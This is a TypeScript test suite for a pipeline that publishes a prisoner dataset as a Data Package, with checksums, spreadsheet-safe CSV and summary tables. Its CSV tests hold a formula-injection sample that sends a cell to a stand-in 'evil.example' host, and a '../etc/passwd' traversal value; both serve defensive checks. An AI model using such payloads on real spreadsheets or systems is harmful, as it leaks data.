import { execFileSync } from 'node:child_process';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import { formulaSafe, toCsv, toExcelCsv } from '../pipeline/publish/formats.js';
import { type PublishedTable, publishedTables, tableFiles } from '../pipeline/publish/published.js';
import { computeSummaries, SUMMARY_NAMES } from '../pipeline/publish/summaries.js';
import { conventionalForeignKeys, tableSchemaOf } from '../pipeline/publish/tableschema.js';
import { jsonSchemaOfTable } from '../pipeline/publish/published.js';
import { listFiles } from '../pipeline/lib/files.js';
import { fixture, kzpp, ROOT, sharedBuild, tempDir } from './helpers.js';

const PROFILES = join(ROOT, '..', 'shared', 'vendor', 'frictionless-datapackage-2.0');
const VERSION = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).version as string;

/** ajv (draft-07, as the profile is) with the official Data Package v2 profile. */
function profileValidator() {
  const profile = JSON.parse(readFileSync(join(PROFILES, 'datapackage.json'), 'utf8'));
  const ajv = new Ajv({ strict: false, allErrors: true });
  (addFormats as unknown as (a: Ajv) => void)(ajv);
  ajv.addFormat('textarea', true); // an editor hint in the profile, not a constraint
  return ajv.compile(profile);
}

type Resource = {
  name: string;
  path: string;
  bytes?: number;
  hash?: string;
  schema?: { fields: Array<{ name: string }>; primaryKey?: string[] };
};

let release: string;
let datapackage: { resources: Resource[] } & Record<string, unknown>;
beforeAll(async () => {
  release = join(await sharedBuild(), VERSION);
  datapackage = JSON.parse(readFileSync(join(release, 'datapackage.json'), 'utf8'));
});

describe('datapackage.json', () => {
  it('validates against the official Data Package v2 profile', () => {
    const validate = profileValidator();
    expect(validate(datapackage), JSON.stringify(validate.errors)).toBe(true);
    expect(validate({ ...datapackage, resources: [{ name: 'x', path: '../etc/passwd' }] })).toBe(false); // the check can fail
  });

  it('is written by extract too, without a version, and validates', async () => {
    const out = join(tempDir(), 'out');
    expect((await kzpp(['extract', fixture('mini-report.md'), '--out', out])).status).toBe(0);
    const descriptor = JSON.parse(readFileSync(join(out, 'datapackage.json'), 'utf8'));
    expect(descriptor.version).toBeUndefined();
    expect(profileValidator()(descriptor)).toBe(true);
    expect((await kzpp(['verify-release', out])).status).toBe(0);
  });

  it('describes the source and the release, dated by the source', () => {
    const source = JSON.parse(readFileSync(join(ROOT, 'sources', 'odf-2025-02-13-tough-year', 'source.json'), 'utf8'));
    expect(datapackage).toMatchObject({
      $schema: 'https://datapackage.org/profiles/2.0/datapackage.json',
      version: VERSION,
      created: '2025-02-13T00:00:00Z',
    });
    expect(datapackage.sources).toEqual([
      expect.objectContaining({
        title: source.title,
        path: source.url,
        publisher: source.publisher,
        date: source.published_on,
        sha256: source.files[0].sha256,
      }),
    ]);
    expect(datapackage.licenses).toEqual([
      { name: 'CC-BY-4.0', path: 'https://creativecommons.org/licenses/by/4.0/', title: expect.stringContaining('Attribution') },
    ]);
    const attribution = (datapackage.licenses as Array<{ title: string }>)[0]!.title;
    for (const credit of [source.title, source.publisher, source.published_on, source.url, "remains the authors'"])
      expect(attribution).toContain(credit);
    expect((datapackage.contributors as Array<{ title: string }>).map((c) => c.title)).toContain(source.publisher);
  });

  it('lists every file of the release with matching bytes and sha256 (only SHA256SUMS, which hashes datapackage.json, has none)', () => {
    const files = listFiles(release);
    expect(datapackage.resources.map((r) => r.path).sort()).toEqual(files.filter((f) => f !== 'datapackage.json').sort());
    for (const r of datapackage.resources) {
      if (r.path === 'SHA256SUMS') continue;
      const bytes = readFileSync(join(release, r.path));
      expect(r.bytes, r.path).toBe(bytes.length);
      expect(r.hash, r.path).toBe(`sha256:${execFileSync('sha256sum', [join(release, r.path)], { encoding: 'utf8' }).slice(0, 64)}`);
    }
    expect(datapackage.resources.filter((r) => !r.hash).map((r) => r.path)).toEqual(['SHA256SUMS']);
  });

  it.each(publishedTables().map((t) => [t.name, t] as const))(
    '%s: a Table Schema whose fields are the CSV header, with its key',
    (_, table) => {
      const resource = datapackage.resources.find((r) => r.path === tableFiles(table).csv)!;
      expect(resource.name).toBe(table.name);
      const header = readFileSync(join(release, resource.path), 'utf8').split('\r\n')[0]!.split(',');
      expect(resource.schema!.fields.map((f) => f.name)).toEqual(header);
      const key = resource.schema!.primaryKey ?? (resource.schema as { uniqueKeys?: string[][] }).uniqueKeys?.[0];
      expect(key).toEqual([...table.key]);
    },
  );

  it('derives foreign keys from field names (x_id -> xs.key) unless the registry declares them', () => {
    const tables = publishedTables();
    const prisoners = tables.find((t) => t.name === 'prisoners')!;
    const mentions: PublishedTable = { ...prisoners, name: 'test_mentions', key: ['id'] };
    const schema = {
      properties: { id: { type: 'string' }, prisoner_id: { type: 'string' }, source_id: { type: 'string' }, tags_id: { type: 'array' } },
    };
    expect(conventionalForeignKeys(mentions, schema, tables)).toEqual([
      { fields: ['prisoner_id'], reference: { resource: 'prisoners', fields: ['id'] } },
    ]);
    const declared = { fields: ['who'], reference: { resource: 'prisoners', fields: ['id'] } };
    expect(tableSchemaOf({ ...mentions, foreignKeys: [declared] }, schema, tables, true).foreignKeys).toEqual([declared]);
    expect(tableSchemaOf(prisoners, jsonSchemaOfTable(prisoners) as never, tables, true).foreignKeys).toBeUndefined();
  });
});

describe('SHA256SUMS and verify-release', () => {
  it('is what sha256sum -c checks, and verify-release finds a changed, a missing and an extra file', async () => {
    expect(execFileSync('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: release, encoding: 'utf8' })).toBe('');
    const sums = readFileSync(join(release, 'SHA256SUMS'), 'utf8');
    expect(
      sums
        .trim()
        .split('\n')
        .map((l) => l.slice(66))
        .sort(),
    ).toEqual(
      listFiles(release)
        .filter((f) => f !== 'SHA256SUMS')
        .sort(),
    );
    expect((await kzpp(['verify-release', release])).status).toBe(0);

    const copy = join(tempDir(), 'download');
    cpSync(release, copy, { recursive: true });
    writeFileSync(join(copy, 'excel', 'prisoners.csv'), 'edited');
    writeFileSync(join(copy, 'notes.txt'), 'mine');
    execFileSync('rm', [join(copy, 'prisoners.ndjson')]);
    const r = await kzpp(['verify-release', copy]);
    expect(r.status).toBe(5);
    expect(r.stderr).toContain(`${join(copy, 'excel', 'prisoners.csv')}: sha256 `);
    expect(r.stderr).toContain(`${join(copy, 'prisoners.ndjson')}: listed in SHA256SUMS but missing`);
    expect(r.stderr).toContain(`${join(copy, 'notes.txt')}: not listed in SHA256SUMS`);
    expect((await kzpp(['verify-release', join(copy, 'nope')])).status).toBe(3); // a missing directory: exit 3, as for every command
  });
});

describe('CSV for spreadsheets', () => {
  const record = {
    id: 'x-1',
    text: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    n: -5,
    plus: '+7 700',
    at: '@SUM(A1)',
    tab: '\tx',
    cr: '\rx',
    ok: 'a=b',
  };
  const columns = Object.keys(record);

  it('prefixes an apostrophe to cells starting with = + - @ tab or CR, and starts with a BOM', () => {
    const excel = toExcelCsv([record], columns);
    expect(excel.startsWith('\uFEFFid,text,')).toBe(true);
    const row = excel.split('\r\n')[1]!;
    expect(row).toBe(`x-1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'-5,'+7 700,'@SUM(A1),'\tx,'\rx,a=b`);
    expect(formulaSafe('plain')).toBe('plain');
  });

  it('leaves the main CSV as the data is: no BOM, no apostrophes', () => {
    const csv = toCsv([record], columns);
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv).toContain('"=HYPERLINK(');
    expect(csv).toContain(',-5,');
  });

  it.each(publishedTables().map((t) => [t.name, t] as const))(
    "excel/%s.csv has the main CSV's header and rows behind a BOM",
    (_, table) => {
      const files = tableFiles(table);
      const excel = readFileSync(join(release, files.excel), 'utf8');
      const main = readFileSync(join(release, files.csv), 'utf8');
      expect(excel.startsWith('\uFEFF')).toBe(true);
      expect(excel.slice(1).split('\r\n')[0]).toBe(main.split('\r\n')[0]);
      expect(main.startsWith('\uFEFF')).toBe(false);
    },
  );
});

describe('summary tables', () => {
  const person = (
    id: string,
    list: string,
    group: string | null,
    months: number | null,
    articles: string[],
    convicted_on: string | null,
  ) => ({
    id,
    list,
    group,
    sentence_months: months,
    articles,
    convicted_on,
    custody_since: null,
    months_custody_to_verdict: null,
  });
  const dataset = {
    prisoners: [
      person('a', 'convicted', 'G1', 60, ['272', '405'], '2023-02-10'),
      person('b', 'convicted', 'G1', 85, ['272'], '2023'),
      person('c', 'convicted', 'G2', 30, ['29'], null),
      person('d', 'pre_trial', 'G3', null, ['272'], null),
    ],
    events: [],
  } as never;

  it('counts per group, article and year, and sentence statistics, from the records', () => {
    const s = computeSummaries(dataset);
    expect(s.prisoners_by_group).toEqual([
      { list: 'convicted', group: 'G1', prisoners: 2 },
      { list: 'convicted', group: 'G2', prisoners: 1 },
      { list: 'pre_trial', group: 'G3', prisoners: 1 },
    ]);
    expect(s.prisoners_by_article).toEqual([
      { article: '29', prisoners: 1, convicted: 1, pre_trial: 0 },
      { article: '272', prisoners: 3, convicted: 2, pre_trial: 1 },
      { article: '405', prisoners: 1, convicted: 1, pre_trial: 0 },
    ]);
    expect(s.prisoners_by_verdict_year).toEqual([
      { year: 2023, prisoners: 2 },
      { year: null, prisoners: 2 },
    ]);
    expect(s.sentences_by_group).toEqual([
      { list: 'convicted', group: 'G1', sentences: 2, min_months: 60, median_months: 72.5, max_months: 85 },
      { list: 'convicted', group: 'G2', sentences: 1, min_months: 30, median_months: 30, max_months: 30 },
    ]);
    // no events and no custody dates: empty, not an error
    expect([s.events_by_kind_year, s.custody_to_verdict_by_group]).toEqual([[], []]);
    expect(s.sentences_by_article!.find((r) => r.article === '272')).toEqual({
      article: '272',
      sentences: 2,
      min_months: 60,
      median_months: 72.5,
      max_months: 85,
    });
  });

  it('add up to the whole list in the release', () => {
    const total = JSON.parse(readFileSync(join(release, 'prisoners.json'), 'utf8')).length;
    const read = (name: string) =>
      JSON.parse(readFileSync(join(release, 'summaries', `${name}.json`), 'utf8')) as Array<Record<string, number>>;
    for (const name of ['prisoners_by_group', 'prisoners_by_verdict_year', 'prisoners_by_custody_year']) {
      expect(
        read(name).reduce((sum, r) => sum + r.prisoners!, 0),
        name,
      ).toBe(total);
    }
    expect(SUMMARY_NAMES.every((n) => read(n).length > 0)).toBe(true);
  });
});

describe('schemas/', () => {
  it('holds the JSON Schema of every table and summary, as generated (run make schemas)', async () => {
    const r = await kzpp(['schemas', '--check']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    for (const table of publishedTables())
      expect(readFileSync(join(ROOT, 'schemas', `${table.name}.schema.json`), 'utf8')).toBe(
        readFileSync(join(release, tableFiles(table).schema), 'utf8'),
      );
  });
});

describe('data dictionary', () => {
  it('docs/data-dictionary.md is the generated one (run make data-dictionary), and a stale copy is caught', async () => {
    const r = await kzpp(['dictionary', '--check']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const text = readFileSync(join(ROOT, 'docs', 'data-dictionary.md'), 'utf8');
    for (const table of publishedTables()) expect(text).toContain(`## ${table.name}\n`);
    expect(text).toMatch(
      /published under \[Creative Commons Attribution 4\.0 International\]\(https:\/\/creativecommons\.org\/licenses\/by\/4\.0\/\)/,
    );
    expect(text).toContain("remains the authors'");
    expect(readFileSync(join(release, 'data-dictionary.md'), 'utf8')).toBe(text);
    const stale = join(tempDir(), 'dd.md');
    writeFileSync(stale, text.replace('| `id` |', '| `ident` |'));
    const failed = await kzpp(['dictionary', '--check', '--file', stale]);
    expect(failed.status).toBe(5);
    expect(failed.stderr).toMatch(/data dictionary is stale/);
    expect(readFileSync(join(ROOT, 'README.md'), 'utf8')).toContain('docs/data-dictionary.md');
  });
});
